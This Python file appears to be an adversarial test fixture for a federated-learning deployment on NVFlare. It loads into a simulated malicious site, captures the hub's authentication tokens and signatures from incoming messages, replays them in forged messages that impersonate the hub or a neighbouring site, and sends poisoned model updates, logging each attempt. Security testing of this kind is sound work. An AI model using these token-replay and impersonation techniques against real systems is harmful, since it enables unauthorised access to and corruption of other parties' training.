"""What a malicious site's own process loads first: it answers the hub as an honest site does, and attacks its peers.

Every process of the site has this folder on its path. Each attack writes a line to the file that ATTACKS names.
"""

import contextlib
import functools
import importlib.abc
import importlib.util
import json
import os
import sys
from collections.abc import Generator
from typing import Any

ROLES = "idiolect.deploy.nvflare.roles"
VICTIM, NEIGHBOUR = "site-1", "site-2"
VICTIMS = os.environ.get("VICTIMS", VICTIM).split(",")
"""The sites towards which this one plays the hub."""
EVIL = {"name": "fedavg", "rate": 1.0, "batch_size": 1, "local_steps": 1, "batches": "cyclic"}
LIMIT = 15.0
AHEAD = 1000  # calls, of those that the hub makes


class Patch(importlib.abc.MetaPathFinder):
    """Changes the roles when the engine loads them."""

    def find_spec(self, fullname: str, path: Any = None, target: Any = None) -> Any:
        if fullname != ROLES:
            return None
        sys.meta_path.remove(self)
        spec = importlib.util.find_spec(fullname)
        assert spec is not None
        assert spec.loader is not None
        load = spec.loader.exec_module

        def exec_module(module: Any) -> None:
            load(module)
            patch(module)

        spec.loader.exec_module = exec_module
        return spec


if "ATTACKS" in os.environ:
    sys.meta_path.insert(0, Patch())


def patch(roles: Any) -> None:
    """Attack inside the first rounds that the hub calls."""
    honest_open, honest_answer = roles.SiteRole.open, roles.SiteRole.answer
    attacker = Attacker(roles)

    @functools.wraps(honest_open)
    def open_site(self: Any) -> None:
        attacker.listen()
        honest_open(self)

    @functools.wraps(honest_answer)
    def answer(self: Any, header: str, body: Any) -> Any:
        head = json.loads(header)
        if head["task"] == "round":
            attacker.attack(head, body)
        return honest_answer(self, header, body)

    roles.SiteRole.open, roles.SiteRole.answer = open_site, answer


class Attacker:
    """What the site can reach with the engine's own means, and with headers that it has heard and forged."""

    def __init__(self, roles: Any) -> None:
        self.roles, self.heard, self.done, self.origin = roles, dict[str, Any](), set[tuple[str, int]](), ""

    @property
    def cell(self) -> Any:
        return self.roles.collab.fl_ctx.get_engine().get_cell()

    def listen(self) -> None:
        """Keep the credentials in what the hub's job sends, and put them into what is forged."""
        from nvflare.apis.fl_constant import CellMessageAuthHeaderKey as Auth
        from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey

        keys = (Auth.CLIENT_NAME, Auth.TOKEN, Auth.TOKEN_SIGNATURE)
        core = self.cell.core_cell

        def hear(message: Any) -> None:
            origin = str(message.get_header(MessageHeaderKey.ORIGIN))
            found = {key: message.get_header(key) for key in keys}
            if origin.startswith("server.") and all(found.values()):
                self.heard = {MessageHeaderKey.ORIGIN: origin, **found}

        def forge(message: Any) -> None:
            if self.origin and str(message.get_header(MessageHeaderKey.DESTINATION)).startswith(VICTIM):
                message.add_headers({**self.heard, MessageHeaderKey.ORIGIN: self.origin})
                message.remove_header(MessageHeaderKey.SERVER_TRANSIT_REQUIRED)

        core.add_incoming_filter("*", "*", hear)
        core.add_outgoing_request_filter("*", "*", forge)

    def attack(self, head: dict[str, Any], body: Any) -> None:
        """The attacks of one round, each once."""
        ring, run = head["place"]["neighbours"] is not None, str(head["run"])
        if (run, head["round"]) in self.done:
            return
        self.done.add((run, head["round"]))
        if not ring and head["round"] == 0:
            self.play_the_hub(head, body)
            self.put("put outside a run", "t/dfedu/seed0", 0, body)
        if not ring and head["round"] == 1:
            self.forged(head, body)
        if ring and head["round"] in (0, 1):
            self.put("put as no neighbour", run, head["round"], body)
        if ring and head["round"] == 1:
            self.forged_put(run, head["round"])

    def play_the_hub(self, head: dict[str, Any], body: Any) -> None:
        """Read a row by one step of rate 1 on one sample; then a job's number that no hub reaches."""
        from idiolect.deploy.messages import unpacked

        note("view", victim="", vectors={name: vector.tolist() for name, vector in unpacked(body).items()})
        evil = self.evil(head)
        begin = {**evil, "task": "begin", "call": AHEAD + 3}
        far = {**evil, "task": "round", "call": 1, "job": 10**12}
        for victim in VICTIMS:
            call = functools.partial(self.call, method="answer", victim=victim)
            for number, task in enumerate(("hello", "summary", "join"), AHEAD):
                call(f"answer {task}", json.dumps({**evil, "task": task, "call": number}), empty())
            call("answer begin", json.dumps(begin), renamed(body, "params"))
            call("answer round", json.dumps({**evil, "task": "round", "call": AHEAD + 4}), body)
            call("answer far ahead", json.dumps(far), body)

    def evil(self, head: dict[str, Any]) -> dict[str, Any]:
        """The hub's own message with other terms."""
        terms = {**head["terms"], "run": "evil/fedavg/seed0", "method": EVIL}
        return {**head, "run": "evil/fedavg/seed0", "terms": terms, "used": -1, "round": 0, "job": head["job"]}

    def put(self, what: str, run: str, round: int, body: Any) -> None:
        self.call(what, round, json.dumps({"run": run, "round": round}), body, method="put")

    def call(
        self, what: str, *arguments: Any, method: str, secure: bool = True, wait: float = LIMIT, victim: str = VICTIM
    ) -> None:
        """Call the victim and write down what came back."""
        collab, told = self.roles.collab, dict[str, Any]()
        try:
            stream = getattr(collab.get_clients([victim])(blocking=False, timeout=wait, secure=secure), method)(
                *arguments
            )
            replies = [reply for _, reply in stream]
            told["failure"] = [str(getattr(f, "cause", f)) for f in stream.failures.values()]
            if replies and isinstance(replies[0], bool):
                told["taken"] = replies[0]
            elif replies:
                message = self.roles.decoded(replies[0])
                told["header"] = dict(message.header)
                told["vectors"] = {name: vector.tolist() for name, vector in message.vectors.items()}
        except Exception as error:
            told["failure"] = [f"{type(error).__name__}: {error}"]
        note(what, victim=victim, **told)

    def forged(self, head: dict[str, Any], body: Any) -> None:
        """Calls that say that the hub's job has sent them, in clear text: the attacker has not its key."""
        evil, origin = self.evil(head), str(next(iter(self.heard.values()), ""))
        note("heard", names=sorted(self.heard), origin=origin)
        with self.forging(origin, "server"):
            begin = {**evil, "task": "begin", "call": 1, "job": head["job"] + 5, "run": "forged/fedavg/seed0"}
            begin["terms"] = {**begin["terms"], "run": "forged/fedavg/seed0"}
            self.call("forged hub", json.dumps(begin), renamed(body, "params"), method="answer", secure=False, wait=4)
            self.call("forged hub, signed", json.dumps(begin), renamed(body, "params"), method="answer", wait=4)

    def forged_put(self, run: str, round: int) -> None:
        """A model that says that the victim's neighbour has sent it."""
        origin = str(next(iter(self.heard.values()), ""))
        with self.forging(f"{NEIGHBOUR}.{origin.partition('.')[2]}", NEIGHBOUR):
            for ahead in (round, round + 1):
                head = json.dumps({"run": run, "round": ahead})
                self.call("forged put", ahead, head, huge(), method="put", secure=False, wait=2)

    @contextlib.contextmanager
    def forging(self, origin: str, name: str) -> Generator[None]:
        """Messages to the victim inside the block say that they are another's."""
        backends = [client.backend for client in self.roles.collab.clients if client.name == VICTIM]
        own = [backend.caller for backend in backends]
        self.origin = origin
        try:
            for backend in backends:
                backend.caller = name
            yield
        finally:
            self.origin = ""
            for backend, caller in zip(backends, own, strict=True):
                backend.caller = caller


def note(what: str, **told: Any) -> None:
    with open(os.environ["ATTACKS"], "a") as file:
        file.write(json.dumps({"what": what, **told}) + "\n")


def empty() -> bytes:
    from idiolect.deploy.messages import packed

    return packed({}).tobytes()


def huge() -> bytes:
    import numpy as np

    from idiolect.deploy.messages import packed

    return packed({"linear/weight": np.full((2, 3), 1e3, "f4"), "linear/bias": np.full(2, 1e3, "f4")}).tobytes()


def renamed(body: Any, part: str) -> bytes:
    """The hub's view as its initial parameters."""
    from idiolect.deploy.messages import packed, unpacked

    return packed({name.replace("view", part, 1): v for name, v in unpacked(body).items()}).tobytes()
